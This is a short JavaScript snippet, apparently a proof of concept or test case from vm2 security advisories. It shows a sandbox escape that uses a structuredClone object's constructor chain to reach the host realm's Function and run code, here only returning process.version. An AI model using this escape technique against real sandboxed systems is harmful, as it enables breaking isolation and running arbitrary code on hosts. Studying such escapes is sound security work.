// The constructor of a structured clone, made by the runtime in its own realm.
// Source: https://github.com/patriksimek/vm2/security/advisories (objects of the outer realm).
return structuredClone({ a: [1] }).a.constructor.constructor("return process.version")()
